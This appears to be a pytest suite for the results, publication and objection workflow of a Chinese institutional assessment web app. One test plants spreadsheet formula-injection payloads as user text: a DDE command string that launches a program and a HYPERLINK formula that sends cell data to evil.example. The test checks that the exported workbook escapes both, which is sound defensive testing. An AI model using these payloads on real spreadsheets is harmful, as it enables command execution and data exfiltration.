"""Results through the web: role checks, deliberation overrides with reasons, fixing, publication,
the public page against the JSON and the workbook, objections through their whole life, the
closing job, and "after final nothing changes"."""

import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select

from app.extensions import db as database
from app.jobs import JOBS, load_jobs
from app.models import AuditEntry, Stage
from app.models.base import utcnow
from app.models.result import Objection, ResultOverride, ResultRow, ResultSet
from app.services import results
from tests.builders import factories as f
from tests.builders.results_case import build_case
from tests.web.test_write_transactions import begins  # noqa: F401  (fixture)


@pytest.fixture
def case(session, monkeypatch):
    c = build_case(session)
    f.user(session, "someone")  # any signed-in person
    session.commit()
    monkeypatch.setattr(results, "gather_inputs", lambda db, cycle: c.inputs)
    return c


def _rs(session, case) -> ResultSet:
    session.commit()  # end the read transaction: a new one sees the requests' commits
    session.expire_all()
    return session.exec(select(ResultSet).where(ResultSet.cycle_id == case.cycle.id)).one()


def _rows(session, case) -> dict:
    rs = _rs(session, case)
    return {r.unit_name: r for r in session.exec(select(ResultRow).where(ResultRow.result_set_id == rs.id))}


def _as(client, name):
    client.post("/logout")
    assert f.login(client, name).status_code == 302


def _publish(client, session, case):
    _as(client, "office1")
    client.get(f"/cycles/{case.cycle.id}/results")
    assert client.post(f"/cycles/{case.cycle.id}/results/fix").status_code == 302
    assert client.post(f"/cycles/{case.cycle.id}/results/publish").status_code == 302
    assert _rs(session, case).status == "published"


def test_role_checks(client, session, case):
    cid = case.cycle.id
    r = client.get(f"/cycles/{cid}/results")
    assert r.status_code == 302 and "/login" in r.location
    assert client.get(f"/api/cycles/{cid}/results.json").status_code == 404
    assert client.get(f"/cycles/{cid}/results.xlsx").status_code == 404
    assert "尚未公示" in client.get(f"/cycles/{cid}/results/public").get_data(as_text=True)
    _as(client, "tb1")
    assert client.get(f"/cycles/{cid}/results").status_code == 403
    assert client.post(f"/cycles/{cid}/results/fix").status_code == 403
    _as(client, "office1")
    page = client.get(f"/cycles/{cid}/results").get_data(as_text=True)
    assert "甲学院" in page and "<svg" in page
    assert client.get(f"/api/cycles/{cid}/results.json").status_code == 200  # office: any time
    unit = case.units["甲学院"].id
    assert client.post(f"/cycles/{cid}/results/override",
                       data={"unit_id": unit, "kind": "grade", "value": "优秀", "reason": "x"}).status_code == 403
    _as(client, "group1")
    assert client.get(f"/cycles/{cid}/results").status_code == 200
    assert client.post(f"/cycles/{cid}/results/publish").status_code == 403
    # unpublished unit detail is not public
    client.post("/logout")
    assert client.get(f"/cycles/{cid}/results/units/{unit}").status_code == 404


def test_deliberation_override_needs_reason_and_is_visible(client, session, case):
    cid, unit = case.cycle.id, case.units["财务处"].id
    _as(client, "group1")
    client.get(f"/cycles/{cid}/results")
    r = client.post(f"/cycles/{cid}/results/override", data={"unit_id": unit, "kind": "grade", "value": "优秀",
                                                              "reason": "  "}, follow_redirects=True)
    assert "必须填写理由" in r.get_data(as_text=True)
    assert session.exec(select(ResultOverride)).first() is None
    with pytest.raises(results.ServiceError, match="必须填写理由"):
        results.add_override(session, actor_id=case.group.id, cycle=case.cycle, unit_id=unit, kind="grade",
                             value="优秀", reason="")
    session.rollback()
    r = client.post(f"/cycles/{cid}/results/override",
                    data={"unit_id": unit, "kind": "grade", "value": "优秀",
                          "reason": "与图书馆并列第三，财务处年度重点工作突破更大"}, follow_redirects=True)
    page = r.get_data(as_text=True)
    assert "调整已记录" in page
    assert "合格 → 优秀" in page and "财务处年度重点工作突破更大" in page
    rows = _rows(session, case)
    assert rows["财务处"].grade == "优秀" and "grade_overridden" in rows["财务处"].flags
    assert "审议将等次由合格调整为优秀" in rows["财务处"].detail["grading"]["explanation"]
    session.commit()
    audit = session.exec(select(AuditEntry).where(AuditEntry.action == "override_grade")).one()
    assert audit.reason.startswith("与图书馆并列第三") and audit.user_id == case.group.id
    # a score change, re-ranked through the engine
    client.post(f"/cycles/{cid}/results/override",
                data={"unit_id": case.units["丁学院"].id, "kind": "total", "value": "199",
                      "reason": "补录省级技能大赛一等奖"})
    rows = _rows(session, case)
    assert rows["丁学院"].total == Decimal("199.00") and rows["丁学院"].rank == 1
    assert rows["丁学院"].computed_total != rows["丁学院"].total


def test_override_refused_when_deliberation_closed(client, session, case):
    st = session.exec(select(Stage).where(Stage.cycle_id == case.cycle.id, Stage.kind == "deliberation")).one()
    st.closes_at = utcnow() - timedelta(hours=1)
    session.add(st)
    session.commit()
    _as(client, "group1")
    client.get(f"/cycles/{case.cycle.id}/results")
    r = client.post(f"/cycles/{case.cycle.id}/results/override",
                    data={"unit_id": case.units["甲学院"].id, "kind": "grade", "value": "优秀", "reason": "理由"},
                    follow_redirects=True)
    assert "已结束" in r.get_data(as_text=True)
    assert session.exec(select(ResultOverride)).first() is None


def _numbers_in_table(html: str, category: str) -> dict:
    """unit name -> (rank, total, grade) read from the public page's table."""
    table = html.split(f'data-category="{category}"', 1)[1].split("</table>", 1)[0]
    out = {}
    for tr in re.findall(r'<tr data-unit="\d+">(.*?)</tr>', table, re.S):
        cells = re.findall(r"<td[^>]*>(.*?)</td>", tr, re.S)
        rank = int(re.sub(r"<[^>]+>", "", cells[0]).strip())
        name = re.search(r">([^<]+)</a>", cells[1]).group(1)
        total = re.search(r'<strong class="total">([\d.]+)</strong>', tr).group(1)
        grade = re.search(r'class="grade grade-[^"]+">([^<]+)<', tr).group(1)
        out[name] = (rank, total, grade)
    return out


def test_published_page_json_and_workbook_agree(client, session, case):
    _publish(client, session, case)
    cid = case.cycle.id
    client.post("/logout")
    html = client.get(f"/cycles/{cid}/results/public").get_data(as_text=True)
    assert "公示期" in html and "省级教学成果奖一等奖" in html and "<svg" in html
    data = client.get(f"/api/cycles/{cid}/results.json").get_json()
    assert data["status"] == "published" and data["notice_until"]
    wb = load_workbook(io.BytesIO(client.get(f"/cycles/{cid}/results.xlsx").data))
    assert {"院部汇总", "部门汇总", "指标明细", "测评票数"} <= set(wb.sheetnames)
    assert wb["院部汇总"]._charts and wb["测评票数"]._charts
    rows = _rows(session, case)
    for cat in data["categories"]:
        page = _numbers_in_table(html, cat["key"])
        ws = wb[f"{cat['name']}汇总"]
        header = [c.value for c in ws[3]]
        sheet = {}
        for row in ws.iter_rows(min_row=4, values_only=True):
            if row[1] is None:
                break
            sheet[row[1]] = dict(zip(header, row, strict=False))
        assert len(cat["units"]) == len(page) == len(sheet)
        for u in cat["units"]:
            name = u["unit"]
            db_row = rows[name]
            assert page[name] == (u["rank"], u["total"], u["grade"])
            assert Decimal(u["total"]) == db_row.total
            s = sheet[name]
            assert (s["名次"], s["等次"]) == (u["rank"], u["grade"])
            assert Decimal(str(s["总分"])).quantize(Decimal("0.01")) == Decimal(u["total"])
            comp_cols = [h for h in header if h and "（" in h]
            for c, col in zip(cat["components"], comp_cols, strict=True):
                assert Decimal(str(s[col])).quantize(Decimal("0.01")) == Decimal(u[c["kind"]]), (name, col)
    # indicator details in the workbook carry the explanations
    texts = [r[10] for r in wb["指标明细"].iter_rows(min_row=2, values_only=True)]
    assert any("按比例折算到55分" in (t or "") for t in texts)
    # unit detail and history are public once published
    unit = case.units["基础课教学部"].id
    page = client.get(f"/cycles/{cid}/results/units/{unit}").get_data(as_text=True)
    assert "原始 42.00/45.00" in page and "42×55÷45" in page
    assert "请<a" in page  # sign in to object
    history = client.get(f"/units/{unit}/history").get_data(as_text=True)
    college = next(c for c in data["categories"] if any(u["unit"] == "基础课教学部" for u in c["units"]))
    rank = next(u["rank"] for u in college["units"] if u["unit"] == "基础课教学部")
    assert f'data-label="名次">{rank}/{len(college["units"])}<' in history  # ranked among its category
    assert client.get("/results").status_code == 200
    from app.web.public.routes import PUBLIC_LINKS

    assert ("考核结果公示", "results.public") in PUBLIC_LINKS


def test_objections_whole_life(client, session, case):
    _publish(client, session, case)
    cid = case.cycle.id
    unit = case.units["图书馆"].id
    _as(client, "someone")
    assert client.post(f"/cycles/{cid}/results/units/{unit}/objection", data={"text": ""}).status_code == 302
    assert session.exec(select(Objection)).first() is None
    client.post(f"/cycles/{cid}/results/units/{unit}/objection",
                data={"text": "图书馆与财务处并列，图书馆年度主要工作评分有误，应为55分。"})
    client.post(f"/cycles/{cid}/results/units/{case.units['保卫处'].id}/objection", data={"text": "保卫处分数偏低"})
    session.commit()
    objs = session.exec(select(Objection).order_by(Objection.id)).all()
    assert [o.status for o in objs] == ["open", "open"]
    # an ordinary user cannot answer
    assert client.post(f"/objections/{objs[0].id}/answer", data={}).status_code == 403
    _as(client, "office1")
    page = client.get(f"/cycles/{cid}/objections").get_data(as_text=True)
    assert "应为55分" in page
    # cannot finish while objections are open
    r = client.post(f"/cycles/{cid}/results/finalise", follow_redirects=True)
    assert "未答复" in r.get_data(as_text=True) and _rs(session, case).status == "published"
    # upheld needs a correction; rejected needs a reason
    p0, p1 = f"o{objs[0].id}-", f"o{objs[1].id}-"
    r = client.post(f"/objections/{objs[0].id}/answer", data={p0 + "decision": "upheld", p0 + "answer": "核实有误"},
                    follow_redirects=True)
    assert "须给出更正" in r.get_data(as_text=True)
    r = client.post(f"/objections/{objs[1].id}/answer", data={p1 + "decision": "rejected", p1 + "answer": ""},
                    follow_redirects=True)
    assert "请填写答复意见" in r.get_data(as_text=True)
    client.post(f"/objections/{objs[0].id}/answer",
                data={p0 + "decision": "upheld", p0 + "answer": "经核实年度主要工作应得55分，总分更正",
                      p0 + "new_total": "179.67", p0 + "version": "1"})
    client.post(f"/objections/{objs[1].id}/answer",
                data={p1 + "decision": "rejected", p1 + "answer": "评分依据充分，维持原结果"})
    session.commit()
    session.expire_all()
    objs = session.exec(select(Objection).order_by(Objection.id)).all()
    assert [o.status for o in objs] == ["upheld", "rejected"]
    rows = _rows(session, case)
    assert rows["图书馆"].total == Decimal("179.67") and rows["图书馆"].grade == "优秀"
    session.commit()
    ov = session.exec(select(ResultOverride).where(ResultOverride.source == "objection")).one()
    assert ov.objection_id == objs[0].id and "经核实" in ov.reason
    # the public page shows the correction with its reason
    html = client.get(f"/cycles/{cid}/results/public").get_data(as_text=True)
    assert "异议更正" in html and "经核实年度主要工作应得55分" in html
    # all answered: the office closes the period
    client.post(f"/cycles/{cid}/results/finalise")
    rs = _rs(session, case)
    assert rs.status == "final" and rs.final_how == "office"
    _assert_nothing_changes(client, session, case)


def _assert_nothing_changes(client, session, case):
    cid = case.cycle.id
    before = {n: (r.total, r.rank, r.grade, r.flags) for n, r in _rows(session, case).items()}
    n_over = len(session.exec(select(ResultOverride)).all())
    case.inputs.facts[(case.units["丁学院"].id, "K1")] = {"points": 95}
    _as(client, "office1")
    page = client.get(f"/cycles/{cid}/results").get_data(as_text=True)
    assert "当前评分数据与定稿时不同" in page
    client.post(f"/cycles/{cid}/results/recompute")
    client.post(f"/cycles/{cid}/results/fix")
    client.post(f"/cycles/{cid}/results/publish")
    _as(client, "group1")
    client.post(f"/cycles/{cid}/results/override",
                data={"unit_id": case.units["甲学院"].id, "kind": "grade", "value": "优秀", "reason": "理由"})
    _as(client, "someone")
    client.post(f"/cycles/{cid}/results/units/{case.units['甲学院'].id}/objection", data={"text": "晚到的异议"})
    assert _rs(session, case).status == "final"
    session.commit()
    assert len(session.exec(select(ResultOverride)).all()) == n_over
    assert session.exec(select(Objection).where(Objection.text == "晚到的异议")).first() is None
    after = {n: (r.total, r.rank, r.grade, r.flags) for n, r in _rows(session, case).items()}
    assert before == after


def test_close_objections_job_finalises_after_the_period(client, session, case, app):
    _publish(client, session, case)
    _as(client, "someone")
    client.post(f"/cycles/{case.cycle.id}/results/units/{case.units['甲学院'].id}/objection", data={"text": "有异议"})
    load_jobs()
    job = JOBS["close_objections"]
    engine = database.engine_for(app.config["DATABASE_URL"])
    with Session(engine) as s:
        assert "0 个" in job(s, utcnow())  # period not over
        s.commit()
    assert _rs(session, case).status == "published"
    st = session.exec(select(Stage).where(Stage.cycle_id == case.cycle.id, Stage.kind == "publication")).one()
    st.closes_at = utcnow() - timedelta(minutes=1)
    session.add(st)
    session.commit()
    with Session(engine) as s:
        assert "1 个" in job(s, utcnow())
        s.commit()
    with Session(engine) as s:  # idempotent
        assert "0 个" in job(s, utcnow())
        s.commit()
    rs = _rs(session, case)
    assert rs.status == "final" and rs.final_how == "period_end"
    # the open objection can still be answered for the record, but not upheld
    session.commit()
    obj = session.exec(select(Objection)).one()
    _as(client, "office1")
    p = f"o{obj.id}-"
    r = client.post(f"/objections/{obj.id}/answer", data={p + "decision": "upheld", p + "answer": "成立",
                                                           p + "new_total": "150"}, follow_redirects=True)
    assert "不能再更正" in r.get_data(as_text=True)
    _assert_nothing_changes(client, session, case)


def test_fix_refused_with_provisional_scores_unless_reason(client, session, case):
    del case.inputs.leader_ratings[case.units["甲学院"].id]
    _as(client, "office1")
    r = client.post(f"/cycles/{case.cycle.id}/results/fix", follow_redirects=True)
    assert "成绩暂定" in r.get_data(as_text=True) and "甲学院" in r.get_data(as_text=True)
    assert _rs(session, case).status == "proposed"
    client.post(
        f"/cycles/{case.cycle.id}/results/fix", data={"reason": "领导评分因出差缺失，领导小组同意按现有数据定稿"}
    )
    assert _rs(session, case).status == "fixed"
    session.commit()
    entry = session.exec(select(AuditEntry).where(AuditEntry.action == "fix")).one()
    assert "出差" in entry.reason


def test_unfix_before_publication_with_a_reason_not_after(client, session, case):
    cid = case.cycle.id
    _as(client, "office1")
    client.get(f"/cycles/{cid}/results")
    client.post(f"/cycles/{cid}/results/fix")
    assert _rs(session, case).status == "fixed"
    page = client.get(f"/cycles/{cid}/results").get_data(as_text=True)
    assert "撤销定稿" in page and "发布公示" in page
    r = client.post(f"/cycles/{cid}/results/unfix", data={"reason": ""}, follow_redirects=True)
    assert "请填写撤销定稿的理由" in r.get_data(as_text=True) and _rs(session, case).status == "fixed"
    _as(client, "group1")
    assert client.post(f"/cycles/{cid}/results/unfix", data={"reason": "x"}).status_code == 403
    _as(client, "office1")
    r = client.post(
        f"/cycles/{cid}/results/unfix",
        data={"reason": "贡献奖补评", "version": _rs(session, case).version},
        follow_redirects=True,
    )
    assert "已撤销定稿" in r.get_data(as_text=True)
    session.expire_all()
    assert _rs(session, case).status == "proposed"
    _publish(client, session, case)
    r = client.post(f"/cycles/{cid}/results/unfix", data={"reason": "再改"}, follow_redirects=True)
    assert "尚未公示的结果" in r.get_data(as_text=True) and _rs(session, case).status == "published"


def test_user_text_in_the_public_workbook_is_never_a_formula(client, session, case):
    """An award title and a deliberation reason that look like formulas come out as text."""
    title = "=cmd|' /C calc'!A0"
    reason = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
    case.inputs.awards[0]["title"] = title
    cid = case.cycle.id
    _as(client, "group1")
    client.get(f"/cycles/{cid}/results")
    r = client.post(f"/cycles/{cid}/results/override",
                    data={"unit_id": case.units["财务处"].id, "kind": "grade", "value": "优秀", "reason": reason})
    assert r.status_code == 302
    _publish(client, session, case)
    client.post("/logout")
    wb = load_workbook(io.BytesIO(client.get(f"/cycles/{cid}/results.xlsx").data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    award = [c for c in cells if isinstance(c.value, str) and "cmd|" in c.value]
    change = [c for c in cells if isinstance(c.value, str) and c.value.lstrip("'").startswith("=HYPERLINK")]
    assert [(c.parent.title, c.data_type, c.value) for c in award] == [("突出贡献奖", "s", "'" + title)]
    assert [(c.parent.title, c.data_type, c.value) for c in change] == [("调整记录", "s", "'" + reason)]


def test_status_wording_has_no_doubled_words(client, session, case):
    _publish(client, session, case)
    html = client.get(f"/cycles/{case.cycle.id}/results").get_data(as_text=True)
    assert "结果当前为「公示中」" in html and "已公示中" not in html and "已已" not in html


def test_award_rule_from_the_scheme_reads_as_one_sentence(monkeypatch):
    """The seed scheme's wording ends with 。 and the pages end the sentence themselves (once)."""
    import types

    import app.services.awards as aw

    rule = types.SimpleNamespace(share=Decimal("0.5"), text="由领导小组评选，不计入200分。")
    fake = types.SimpleNamespace(award=rule)
    monkeypatch.setattr(aw, "cycle_scheme", lambda cycle: fake)
    assert aw.award_rule(object())[1] == "由领导小组评选，不计入200分"


def test_the_sheet_takes_the_write_lock_only_to_recompute(client, session, case, begins):  # noqa: F811
    """Opening the sheet with the results current stays a reader (SQLite: no BEGIN IMMEDIATE), so
    people opening it at once, and the vote's writes, do not queue behind one another."""
    _as(client, "office1")
    begins.clear()
    assert "考核结果" in client.get(f"/cycles/{case.cycle.id}/results").get_data(as_text=True)
    assert "BEGIN IMMEDIATE" in begins  # the first open computes and writes the rows
    first = _rs(session, case).fingerprint
    begins.clear()
    page = client.get(f"/cycles/{case.cycle.id}/results").get_data(as_text=True)
    assert "BEGIN IMMEDIATE" not in begins and begins  # current: read only
    assert "数据有变化" not in page
    case.inputs.facts[(case.units["丁学院"].id, "K1")] = {"points": 95}
    begins.clear()
    page = client.get(f"/cycles/{case.cycle.id}/results").get_data(as_text=True)
    assert "BEGIN IMMEDIATE" in begins and "数据有变化，结果已更新" in page and "丁学院" in page
    assert _rs(session, case).fingerprint != first
